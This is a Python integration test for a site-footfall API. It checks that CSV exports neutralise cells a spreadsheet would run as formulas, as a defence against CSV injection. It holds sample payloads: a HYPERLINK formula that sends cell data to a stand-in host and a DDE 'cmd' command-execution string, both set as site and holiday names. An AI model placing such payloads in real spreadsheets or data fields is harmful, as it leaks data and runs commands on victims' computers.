"""CSV exports neutralise cells a spreadsheet would run as a formula (admin-set names)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from fastapi.testclient import TestClient

from collector.api import create_app
from collector.storage import Store
from tests.integration.test_api_stores import HEADERS, NOW, ApiSettings
from tests.integration.test_api_stores import store as store  # the fixture (SQLite, InfluxDB)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
EXPORTS = (
    "/api/v1/sites",
    "/api/v1/devices",
    "/api/v1/footfall?sites=mpp-jakarta,mpp-makassar",
    "/api/v1/sites/mpp-jakarta/footfall",
    "/api/v1/sites/mpp-jakarta/gerai",
    "/api/v1/sites/mpp-jakarta/opening-hours",
    "/api/v1/sites/mpp-jakarta/staffing?start=2025-06-02&end=2025-06-02",
    "/api/v1/sites/mpp-jakarta/waiting?start=2025-06-02&end=2025-06-02",
    "/api/v1/sites/mpp-jakarta/occupancy?start=2025-06-02&end=2025-06-02",
    "/api/v1/sites/mpp-jakarta/occupancy/live",
    "/api/v1/sites/mpp-jakarta/staffing/periods?start=2025-05&end=2025-06",
    "/api/v1/sites/mpp-jakarta/footfall/heatmap",
)


def test_formula_names_are_neutralised_in_every_csv_export(store: Store, tmp_path: Path) -> None:
    client = TestClient(create_app(ApiSettings(tmp_path), store, clock=lambda: NOW), headers=HEADERS)
    assert client.put("/api/v1/sites/mpp-jakarta", json={"name": FORMULA}).status_code == 200
    gerai = {"name": "+62 " + FORMULA, "zones": [{"device": "cam-gerai", "zone": "dukcapil-staf", "role": "staff"}]}
    assert client.put("/api/v1/sites/mpp-jakarta/gerai/dukcapil", json=gerai).status_code == 200
    hours = {"days": [{"weekday": 0, "opens": "08:00", "closes": "16:00"}],
             "holidays": [{"date": "2025-06-06", "name": "@SUM(1+1)*cmd|' /C calc'!A0"}]}  # fmt: skip
    assert client.put("/api/v1/sites/mpp-jakarta/opening-hours", json=hours).status_code == 200

    seen: set[str] = set()
    for path in EXPORTS:
        response = client.get(path + ("&" if "?" in path else "?") + "format=csv")
        assert response.status_code == 200, (path, response.text)
        for row in csv.reader(io.StringIO(response.text)):
            for cell in row:
                assert not cell.startswith(DANGEROUS), f"{path}: {cell!r}"
                seen.add(cell)
    assert "'" + FORMULA in seen  # the site name, kept readable behind a quote
    assert "'+62 " + FORMULA in seen
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in seen
    # JSON is data, not a spreadsheet: names come back exactly as set.
    assert client.get("/api/v1/sites/mpp-jakarta").json()["name"] == FORMULA
